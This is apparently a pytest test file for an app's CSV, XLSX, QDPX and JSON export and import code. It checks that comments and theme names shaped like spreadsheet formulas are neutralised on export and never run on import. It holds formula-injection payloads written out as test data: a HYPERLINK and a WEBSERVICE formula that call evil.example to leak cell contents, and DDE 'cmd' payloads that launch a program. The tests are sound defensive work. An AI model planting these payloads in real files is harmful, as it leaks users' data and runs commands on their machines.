"""Somebody writes a comment that a spreadsheet would run, or brings a sheet that would run here.

What leaves as CSV or XLSX is words in every cell; what comes in is read and never run. And no odd character in
one comment spoils the file for all the others.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest

from tests.people import Shed
from tests.theme.boards import Board
from voice.listen.imports import Taken, make_plan, open_sheet, read_rows
from voice.protect.reading.second import mark_second_read
from voice.tell.export import export, harmless
from voice.theme import review

pytestmark = pytest.mark.anyio

RUNS = {
    "equals": '=HYPERLINK("https://evil.example/?"&A1,"zqformula")',
    "plus": "+cmd|' /C calc'!A0 zqformula",
    "minus": "-2+3+cmd|' /C calc'!A0 zqformula",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0 zqformula",
    "tab": "\t=1+1 zqformula",
    "carriage return": "\r=1+1 zqformula",
    "line end": "\n=1+1 zqformula",
    "spaces": "   =1+1 zqformula",
    "wide": "＝1+1 zqformula",
    "another cell": 'fine;=1+1;"=1+1"\t=1+1 zqformula',
    "out of its quotes": '","=1+1","zqformula',
}
UNPRINTABLE = "a bell \x07 and \x0b \x1f \x7f \ufffe zqformula"
STARTS = tuple("=+-@＝＋－＠\t\r\n")


@pytest.fixture
async def wicked(shed: Shed) -> Shed:
    """Every such comment, released, read twice, and in a theme whose own name would run."""
    board = Board(shed)
    comments = await board.hears(*RUNS.values(), UNPRINTABLE)
    theme = await board.suggested("Waiting", comments)
    await board.does(review.rename, theme, "=1+1 zqtitle", "@SUM(1) who?")
    async with shed.store.writing() as conn:
        femi = shed.people["Femi"].person_id
        assert await mark_second_read(conn, shed.space.space_id, comments, femi) == []
    return shed


async def exported(shed: Shed, format: str, folder: Path) -> Path:
    """The file that a designer asks for."""
    file = folder / f"out.{format}"
    given = await export(shed.store, shed.space, format, file, by="test")
    assert given["with_words"] == len(RUNS) + 1
    return file


def runs(cell: object) -> bool:
    """Would a spreadsheet run it?"""
    return isinstance(cell, str) and (cell.startswith(STARTS) or cell.lstrip().startswith(STARTS))


async def test_no_cell_of_a_csv_runs_whatever_it_is_cut_at(wicked: Shed, tmp_path: Path) -> None:
    text = (await exported(wicked, "csv", tmp_path)).read_text("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == len(RUNS) + 2 and sum("zqformula" in str(row) for row in rows) == len(RUNS) + 1
    assert [cell for row in rows for cell in row if runs(cell)] == []
    assert all(line.startswith('"') for line in text.splitlines() if "zqtitle" in line), (
        "every cell is in quotes"
    )


async def test_no_cell_of_a_workbook_is_a_formula(wicked: Shed, tmp_path: Path) -> None:
    book = openpyxl.load_workbook(await exported(wicked, "xlsx", tmp_path))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert sum("zqformula" in str(cell.value) for cell in cells) == len(RUNS) + 1
    assert [cell.value for cell in cells if cell.data_type == "f" or runs(cell.value)] == []
    assert not any(cell.hyperlink for cell in cells)


@pytest.mark.parametrize("format", ["qdpx", "qdc"])
async def test_odd_characters_do_not_spoil_a_project(wicked: Shed, tmp_path: Path, format: str) -> None:
    file = await exported(wicked, format, tmp_path)
    if format == "qdc":
        assert "zqtitle" in ElementTree.fromstring(file.read_bytes()).find(".//{*}Code").get("name", "")  # type: ignore[union-attr]
        return
    with zipfile.ZipFile(file) as packed:
        names = packed.namelist()
        assert all(name == "project.qde" or name.startswith("sources/") for name in names)
        assert (
            len(ElementTree.fromstring(packed.read("project.qde")).findall(".//{*}TextSource"))
            == len(names) - 1
        )


async def test_json_keeps_words_as_they_were_written(wicked: Shed, tmp_path: Path) -> None:
    """No spreadsheet opens it, so nothing is put before them."""
    data = json.loads((await exported(wicked, "json", tmp_path)).read_text("utf-8"))
    assert {row["words"] for row in data["comments"]} >= {RUNS["equals"], RUNS["at"]}


def test_numbers_and_plain_words_are_left_alone() -> None:
    for cell in (7, 0.5, None, "", "a - b", "it's = fine", "1+1"):
        assert harmless(cell) == cell


def test_a_formula_in_a_file_is_its_words(tmp_path: Path) -> None:
    file = tmp_path / "in.csv"
    with file.open("w", newline="", encoding="utf-8") as out:
        csv.writer(out).writerows(
            [["id", "What would help?"], *([n, cell] for n, cell in enumerate(RUNS.values(), 1))]
        )
    sheet = open_sheet(file)
    taken = [
        row for row in read_rows(sheet, make_plan(sheet, "What would help?", {})) if isinstance(row, Taken)
    ]
    assert [row.text.strip() for row in taken] == [cell.replace("\r", "\n").strip() for cell in RUNS.values()]


def test_a_formula_in_a_workbook_is_never_run(tmp_path: Path) -> None:
    """Nothing was saved as its value, so there is nothing to read: no address is called, no other file opened."""
    file, book = tmp_path / "in.xlsx", openpyxl.Workbook()
    for row in (["id", "What would help?"], [1, "a quiet room, and somebody who stays"], [2, RUNS["equals"]]):
        book.active.append(row)  # type: ignore[union-attr]
    book.active["B4"] = '=WEBSERVICE("https://evil.example/")'  # type: ignore[index]
    book.save(file)
    sheet = open_sheet(file)
    texts = [
        row.text
        for row in read_rows(sheet, make_plan(sheet, "What would help?", {}))
        if isinstance(row, Taken)
    ]
    assert texts == ["a quiet room, and somebody who stays"]
    assert any("formulas" in note and "none is run" in note for note in sheet.notes)
